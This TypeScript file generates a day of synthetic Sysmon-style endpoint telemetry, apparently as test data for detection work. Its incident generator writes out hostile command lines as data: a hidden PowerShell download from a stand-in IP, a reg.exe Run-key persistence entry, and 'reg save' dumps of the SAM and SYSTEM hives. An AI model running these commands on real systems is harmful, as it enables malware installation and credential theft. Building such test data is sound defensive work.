/** A day of endpoint telemetry out of a seed: every event is told by its host and its five minutes alone, so that none is held. */

export const TICK = 5 * 60_000;
/** Of the day; what comes late comes in the ticks behind them. */
export const TICKS_OF_DAY = 288;
/** Twenty hours. */
export const LONGEST_LAG = 240;
/** At noon, so that the day lies in two daily indices. */
export const START = Date.UTC(2026, 10, 20, 12);

export interface Telemetry {
  readonly hosts: number;
  /** Expected ordinary events of one host in one tick. */
  readonly ordinary: number;
  /** Expected Run-key sets of one host in one tick. */
  readonly runKeys: number;
  /** Incidents of the day, evenly spread. */
  readonly incidents: number;
  /** Ordinary events of other seeds differ, Run-key sets and incidents with them. */
  readonly seed: number;
}

export type Dataset = 'process' | 'file' | 'registry';

export interface Made {
  readonly dataset: Dataset;
  /** Epoch milliseconds. */
  readonly time: number;
  readonly body: object;
}

/** How many ticks behind its events a host is heard of: a tenth of the hosts up to twenty hours. */
export function lagOf({ seed }: Telemetry, host: number): number {
  return host % 10 === 3 ? 1 + (mixed(seed, host, 1) % LONGEST_LAG) : 0;
}

/** What became visible by this tick, counted from 0, and not by the one before. */
export function* visibleAt(plan: Telemetry, tick: number): Generator<Made, void> {
  for (let host = 0; host < plan.hosts; host += 1) {
    const of = tick - lagOf(plan, host);
    if (of >= 0 && of < TICKS_OF_DAY) yield* eventsOf(plan, host, of, START + (tick + 1) * TICK);
  }
}

function* eventsOf(plan: Telemetry, host: number, tick: number, seen: number): Generator<Made, void> {
  const next = randoms(mixed(plan.seed, host, tick, 2));
  const at = (): number => START + tick * TICK + Math.floor(next() * TICK);
  const make = maker(plan, host, seen);
  if (tick === 0) yield make.process(START, shellOf(host), processOf(plan, host, -1, 0));
  const starts = startsIn(plan, host, tick);
  for (let n = 0; n < starts; n += 1)
    yield make.process(at(), processOf(plan, host, tick, n), recent(plan, host, tick, next));
  const others = Math.floor(plan.ordinary * (1 - STARTS) + next());
  for (let n = 0; n < others; n += 1) {
    const actor = recent(plan, host, tick, next);
    if (next() < 0.62) yield make.file(at(), actor, ordinaryPath(host, next));
    else yield make.registry(at(), actor, ordinaryKey(host, next), pick(VALUES, next), hex(next, 24));
  }
  yield* runKeySets(plan, host, tick, make);
  // An hour later a third of what was set to start has started.
  for (const { payload, starts: isStarted } of setsIn(plan, host, tick - 12)) {
    if (isStarted) yield make.process(at(), programOf(plan, host, tick, payload), shellOf(host));
  }
  if (isHit(plan, host, tick)) yield* incident(plan, host, tick, make);
}

const STARTS = 0.6;

function startsIn({ seed, ordinary }: Telemetry, host: number, tick: number): number {
  return Math.floor(ordinary * STARTS + randoms(mixed(seed, host, tick, 3))());
}

interface Program {
  readonly id: string;
  readonly pid: number;
  readonly path: string;
  readonly line: string;
}

/** The nth process that a host starts in a tick. */
function processOf({ seed }: Telemetry, host: number, tick: number, n: number): Program {
  const next = randoms(mixed(seed, host, tick, 4 + n));
  const [path = '', args = ''] = pick(PROGRAMS, next);
  const own = path.replace('USER', userOf(host));
  return { id: idOf(host, tick, n), pid: pidOf(next), path: own, line: `"${own}" ${args}${hex(next, 10)}` };
}

/** One of the last hour, or one that started before anything was logged. */
function recent(plan: Telemetry, host: number, tick: number, next: () => number): Program {
  const then = tick - 1 - Math.floor(next() * 12);
  const starts = then < 0 ? 0 : startsIn(plan, host, then);
  return processOf(plan, host, starts === 0 ? -1 : then, Math.floor(next() * Math.max(1, starts)));
}

function programOf({ seed }: Telemetry, host: number, tick: number, path: string): Program {
  const next = randoms(mixed(seed, host, tick, 900));
  return { id: idOf(host, tick, 900), pid: pidOf(next), path, line: `"${path}" /background` };
}

interface RunKeySet {
  readonly value: string;
  readonly payload: string;
  readonly isCreated: boolean;
  readonly starts: boolean;
}

/** What a user's programs come from, logged with the first of the day. */
function shellOf(host: number): Program {
  const path = 'C:\\Windows\\explorer.exe';
  return { id: idOf(host, 0, 800), pid: 4_000, path, line: path };
}

/** Of chances of its own, as all that belongs to it, so that more of what is ordinary makes no other cases. */
function setsIn({ seed, runKeys }: Telemetry, host: number, tick: number): readonly RunKeySet[] {
  if (tick < 0) return [];
  const next = randoms(mixed(seed, host, tick, 5));
  return Array.from({ length: Math.floor(runKeys + next()) }, () => {
    const value = pick(PRODUCTS, next) + (next() < 0.3 ? hex(next, 4) : '');
    const payload = `C:\\Users\\${userOf(host)}\\AppData\\Roaming\\${value}\\${hex(next, 6)}.exe`;
    return { value, payload, isCreated: next() < 0.6, starts: next() < 0.35 };
  });
}

function* runKeySets(plan: Telemetry, host: number, tick: number, make: Maker): Generator<Made, void> {
  for (const [n, { value, payload, isCreated }] of setsIn(plan, host, tick).entries()) {
    const next = randoms(mixed(plan.seed, host, tick, 500 + n));
    const time = START + tick * TICK + 10_000 + Math.floor(next() * (TICK - 20_000));
    const setter = installer(plan, host, tick, n);
    yield make.process(time - 3_000, setter, shellOf(host));
    if (isCreated) yield make.file(time - 1_000, setter, payload);
    const key = `SOFTWARE\\${next() < 0.2 ? 'WOW6432Node\\' : ''}${RUN}${next() < 0.25 ? 'Once' : ''}`;
    yield make.registry(
      time,
      setter,
      next() < 0.5 ? `HKLM\\${key}` : `HKU\\${sidOf(host)}\\${key}`,
      value,
      `${payload} /background`,
    );
  }
}

function installer({ seed }: Telemetry, host: number, tick: number, n: number): Program {
  const next = randoms(mixed(seed, host, tick, 600 + n));
  const path = `C:\\Users\\${userOf(host)}\\AppData\\Local\\Temp\\setup.exe`;
  return {
    id: idOf(host, tick, 600 + n),
    pid: pidOf(next),
    path,
    line: `"${path}" /quiet /log ${hex(next, 10)}`,
  };
}

function isHit({ seed, hosts, incidents }: Telemetry, host: number, tick: number): boolean {
  const every = Math.floor(TICKS_OF_DAY / Math.max(1, incidents));
  return incidents > 0 && tick % every === every >> 1 && host === mixed(seed, tick, 7) % hosts;
}

/** A document that starts a shell, which fetches a program, has reg.exe set it to start, and takes the hives. */
function* incident(plan: Telemetry, host: number, tick: number, make: Maker): Generator<Made, void> {
  const next = randoms(mixed(plan.seed, host, tick, 8));
  const time = START + tick * TICK + 30_000;
  const program = (n: number, path: string, line: string): Program => ({
    id: idOf(host, tick, 700 + n),
    pid: pidOf(next),
    path,
    line,
  });
  const word = program(
    0,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"WINWORD.EXE" /n invoice.docm',
  );
  const shell = program(
    1,
    `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -w hidden -nop -c "iwr http://203.0.113.7/a -OutFile $env:APPDATA\\upd\\upd.exe"',
  );
  const payload = `C:\\Users\\${userOf(host)}\\AppData\\Roaming\\upd\\upd.exe`;
  const reg = program(
    2,
    `${SYSTEM}reg.exe`,
    `reg.exe add HKCU\\Software\\${RUN} /v Updater /t REG_SZ /d "${payload}" /f`,
  );
  yield make.process(time, word, shellOf(host));
  yield make.process(time + 5_000, shell, word);
  yield make.file(time + 9_000, shell, payload);
  yield make.process(time + 12_000, reg, shell);
  yield make.registry(time + 12_050, reg, `HKU\\${sidOf(host)}\\Software\\${RUN}`, 'Updater', payload);
  yield make.process(time + 40_000, program(3, payload, payload), shell);
  for (const [n, hive] of ['SAM', 'SYSTEM'].entries())
    yield make.process(
      time + 60_000 + n * 900,
      program(4 + n, `${SYSTEM}reg.exe`, `reg save HKLM\\${hive} C:\\Users\\Public\\${n}.hiv`),
      shell,
    );
}

interface Maker {
  process(time: number, program: Program, parent: Program): Made;
  file(time: number, actor: Program, path: string): Made;
  /** `key` with its hive. */
  registry(time: number, actor: Program, key: string, value: string, data: string): Made;
}

/** `seen`: when it arrived in the stack. */
function maker({ seed }: Telemetry, host: number, seen: number): Maker {
  const common = {
    ecs: { version: '8.17.0' },
    agent: { type: 'winlogbeat', version: '9.5.0' },
    host: {
      name: `ws-${String(host).padStart(5, '0')}.corp.example`,
      id: `h-${mixed(seed, host, 9).toString(16)}`,
      os: { family: 'windows', type: 'windows' },
    },
    user: { name: userOf(host), domain: 'CORP', id: sidOf(host) },
  };
  const event = (time: number, category: string, type: string, action: string, code: string): object => ({
    '@timestamp': new Date(time).toISOString(),
    event: {
      kind: 'event',
      category: [category],
      type: [type],
      action,
      code,
      provider: 'Microsoft-Windows-Sysmon',
      ingested: new Date(seen).toISOString(),
    },
    ...common,
  });
  return {
    process: (time, program, parent) => ({
      dataset: 'process',
      time,
      body: {
        ...event(time, 'process', 'start', 'Process creation', '1'),
        process: {
          ...named(program),
          command_line: program.line,
          parent: { ...named(parent), command_line: parent.line },
        },
      },
    }),
    file: (time, actor, path) => ({
      dataset: 'file',
      time,
      body: {
        ...event(time, 'file', 'creation', 'File created', '11'),
        process: named(actor),
        file: { path, name: nameOf(path), directory: path.slice(0, path.lastIndexOf('\\')) },
      },
    }),
    registry: (time, actor, key, value, data) => ({
      dataset: 'registry',
      time,
      body: {
        ...event(time, 'registry', 'change', 'Registry value set', '13'),
        process: named(actor),
        registry: {
          hive: key.slice(0, key.indexOf('\\')),
          key: key.slice(key.indexOf('\\') + 1),
          value,
          path: `${key}\\${value}`,
          data: { type: 'REG_SZ', strings: [data] },
        },
      },
    }),
  };
}

function named({ id, pid, path }: Program): object {
  return { entity_id: id, pid, name: nameOf(path), executable: path };
}

function nameOf(path: string): string {
  return path.slice(path.lastIndexOf('\\') + 1);
}

const SYSTEM = 'C:\\Windows\\System32\\';
const RUN = 'Microsoft\\Windows\\CurrentVersion\\Run';
/** A tenth of what starts is reg.exe that sets an ordinary value. */
const PROGRAMS: readonly (readonly [string, string])[] = [
  [`${SYSTEM}svchost.exe`, '-k netsvcs -p -s '],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '--type=renderer --field-trial-handle='],
  [
    `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
    '-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\job',
  ],
  [`${SYSTEM}cmd.exe`, '/c dir C:\\Temp\\'],
  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '--type=utility --mojo='],
  [`${SYSTEM}rundll32.exe`, `${SYSTEM}shell32.dll,Control_RunDLL `],
  ['C:\\Users\\USER\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', '--type=gpu-process --id='],
  [`${SYSTEM}taskhostw.exe`, ''],
  ['C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', '/background /tag '],
  [`${SYSTEM}reg.exe`, 'add HKCU\\Software\\Vendor /v Build /d '],
];
const PRODUCTS = [
  'OneDrive',
  'Teams',
  'SecurityHealth',
  'GoogleUpdate',
  'Discord',
  'Updater',
  'Spotify',
  'Zoom',
];
const VALUES = ['Start', 'Type', 'MRUListEx', 'Version', 'Data', 'Flags'];
const PLACES = ['Explorer', 'Uninstall', 'Policies', 'Installer', 'Shell', 'Advanced', 'Cache', 'Streams'];

function ordinaryPath(host: number, next: () => number): string {
  const kind = pick(['tmp', 'dll', 'exe', 'log', 'json', 'ps1'], next);
  return `C:\\Users\\${userOf(host)}\\AppData\\Local\\Temp\\${pick(PLACES, next)}\\${hex(next, 8)}.${kind}`;
}

function ordinaryKey(host: number, next: () => number): string {
  const hive = next() < 0.5 ? 'HKLM' : `HKU\\${sidOf(host)}`;
  return next() < 0.5
    ? `${hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\${pick(PLACES, next)}\\${hex(next, 5)}`
    : `${hive}\\System\\CurrentControlSet\\Services\\${pick(PLACES, next)}\\Parameters\\${hex(next, 5)}`;
}

function userOf(host: number): string {
  return `user${host}`;
}

function sidOf(host: number): string {
  return `S-1-5-21-1004336348-1177238915-682003330-${1000 + host}`;
}

function idOf(host: number, tick: number, n: number): string {
  const part = (value: number): string => (value >>> 0).toString(16).padStart(8, '0');
  return `{${part(host)}-${part(tick)}-${part(n)}}`;
}

function pidOf(next: () => number): number {
  return 4 * Math.floor(1 + next() * 15_000);
}

function hex(next: () => number, length: number): string {
  let text = '';
  while (text.length < length) text += Math.floor(next() * 16).toString(16);
  return text;
}

function pick<T>(from: readonly T[], next: () => number): T {
  return from[Math.floor(next() * from.length)] as T;
}

/** One 32-bit number of several. */
function mixed(...numbers: readonly number[]): number {
  let state = 0x9e3779b9;
  for (const number of numbers) {
    state = Math.imul(state ^ number, 0x85ebca6b);
    state = Math.imul(state ^ (state >>> 13), 0xc2b2ae35);
    state ^= state >>> 16;
  }
  return state >>> 0;
}

/** From 0 to below 1. */
function randoms(seed: number): () => number {
  let state = seed === 0 ? 1 : seed;
  return () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) / 4_294_967_296;
  };
}
